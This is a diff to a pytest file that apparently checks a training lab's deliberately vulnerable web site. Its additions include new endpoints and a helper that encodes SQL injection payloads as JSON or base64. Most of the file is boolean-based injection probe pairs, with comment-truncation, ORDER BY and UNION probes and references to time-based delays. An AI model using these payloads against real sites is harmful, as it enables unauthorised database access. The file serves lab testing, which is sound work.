@@ -1,5 +1,8 @@
 """Every SQL injection flaw tells true from false statements in three unlike ways; its twin never does."""
 
+from base64 import b64encode
+from collections.abc import Callable
+
 import pytest
 
 from cyberai.lab.site import Site
@@ -12,6 +15,17 @@ NUMBER = (("{} AND 5=5", "{} AND 5=6"), ("{}-0", "{}-1"), ("{} AND 'a'='a'", "{}
 STRING = (("{}' AND '5'='5", "{}' AND '5'='6"), ("{}' AND 7<8--", "{}' AND 7>8--"), ("{}'||'", "{}'||'x"),
           ("{}' AND EXISTS(SELECT 1) AND 'q'='q", "{}' AND NOT EXISTS(SELECT 1) AND 'q'='q"))  # fmt: skip
 BROKEN = (("{}''", "{}'"), ("{}'||'", "{}'||"))
+
+
+def written(
+    pairs: tuple[tuple[str, str], ...], value: str, write: Callable[[str], str]
+) -> tuple[tuple[str, str], ...]:
+    """The pairs for a place that holds text in another form."""
+    return tuple(
+        (write(same.replace("{}", value)), write(other.replace("{}", value))) for same, other in pairs
+    )
+
+
 # For each place: the value a visitor sends, and pairs of (still that page, another page).
 PAIRS: dict[str, tuple[str, tuple[tuple[str, str], ...]]] = {
     "/product id": ("3", NUMBER),
@@ -44,12 +58,18 @@ PAIRS: dict[str, tuple[str, tuple[tuple[str, str], ...]]] = {
     "/suppliers/find place": ("Kelby", STRING),
     "/berths/wish wish": ("x", (*BROKEN, ("x' || (SELECT 1) || '", "x' || (SELECT nothing) || '"), ("x')--", "x'--"))),
     "/stock/reserve amount": ("2", (("{}-5+5", "{}-5+"), ("(SELECT 1)", "(SELECT nothing)"), ("{} WHERE id = 9--", "{} WHERE nothing--"))),
+    "/berths/leave word": ("x", (*BROKEN, ("x' || abs(-4) || '", "x' || nothing || '"), ("x')--", "x'--"))),
+    "/stock/return pieces": ("2", (("{}-5+5", "{}-5+"), ("abs({})", "nothing({})"), ("{} WHERE id = 9--", "{} WHERE nothing--"))),
     "/catalogue/direction direction": ("asc", (("{},(SELECT 1)", "{},(SELECT nothing)"), ("{} LIMIT 4--", "{} LIMIT 1--"), ("{},name", "{},nothing"))),
     "/account/region region": ("safety", (("{}'AND'5'='5", "{}'AND'5'='6"), ("{}'||'", "{}'||'x"), ("{}'AND/**/EXISTS(SELECT/**/1)AND'q'='q", "{}'AND/**/NOT/**/EXISTS(SELECT/**/1)AND'q'='q"))),
     "/articles/plain article": ("4", (("{}-0", "{}-1"), ("{}/(1<2)", "{}/(2<1)"), ("{}/**/AND/**/5=5", "{}/**/AND/**/5=6"))),
     "/articles/of kind": ("safety", (("{}'AND'5'='5", "{}'AND'5'='6"), ("{}'||'", "{}'||'x"), ("{}'||NULLIF('','a')||'", "{}'||NULLIF('a','a')||'"))),
     "/catalogue/from start": ("2", (("{}-0", "{}-1"), ("(SELECT {})", "(SELECT 1)"), ("{}*(1<2)", "{}*(2<1)"))),
     "/catalogue/picked ids": ("1,2,5", (("{}) AND (5=5", "{}) AND (5=6"), ("{},(SELECT 1)", "{},(SELECT 3)"), ("{}-0", "{}-1"))),
+    "/balance/data/rows sort": ("price", (("{},(SELECT 1)", "{},(SELECT nothing)"), ("{}+0", "{}*-1"), ("{} ASC", "{} DESC"))),
+    "/balance/data/known article": ("Signal horn", STRING),
+    "/catalogue/wanted filter": ('{"kind":"rope"}', written(STRING, "rope", lambda text: f'{{"kind":"{text}"}}')),
+    "/catalogue/seen seen": ("c2FmZXR5", written(STRING, "safety", lambda text: b64encode(text.encode()).decode())),
     "/catalogue/by sort": ("price desc", (("{},(SELECT 1)", "{},(SELECT nothing)"), ("price+0 desc", "price*-1 desc"),
                                           ("{} LIMIT 5--", "{} LIMIT 2--"))),
     "/api/by column": ("price", (("{}`,(SELECT 1),`{}", "{}`,(SELECT nothing),`{}"), ("{}` ASC--", "{}` DESC--"),
@@ -62,7 +82,7 @@ PAIRS: dict[str, tuple[str, tuple[tuple[str, str], ...]]] = {
                                           ("{}')) ORDER BY 2--", "{}')) UNION SELECT 1,2--"))),
 }  # fmt: skip
 # The page tells that the statement failed, in words that are no database's.
-TOLD = ("/berths/wish wish", "/stock/reserve amount", "/catalogue/direction direction",
+TOLD = ("/berths/wish wish", "/stock/reserve amount", "/berths/leave word", "/stock/return pieces", "/catalogue/direction direction",
         "/articles/plain article", "/articles/of kind")  # fmt: skip
 # Nothing is shown: what can be told is the time. Values that wait `{}` seconds, in unlike ways.
 SLEEPS: dict[str, tuple[str, ...]] = {
